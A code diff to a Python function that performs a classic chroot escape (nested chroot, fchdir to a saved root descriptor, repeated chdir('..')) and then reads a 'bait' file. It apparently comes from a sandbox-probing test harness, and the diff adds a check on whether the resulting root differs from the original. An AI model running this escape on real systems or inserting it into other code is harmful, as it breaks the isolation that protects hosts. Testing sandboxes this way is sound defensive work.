@@ -82,11 +82,14 @@ def chroot_escape(bait: Bait) -> str:
     if not below:
         raise Absent("the root has no directory to change the root to")
     above = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
+    own = os.fstat(above)
     libc.chroot(below)
     os.fchdir(above)
     for _ in range(64):
         os.chdir("..")
     libc.chroot(".")
+    if not os.path.samestat(own, os.stat("/")):
+        return "the root is another"
     return _read(bait, bait.path)
 
 
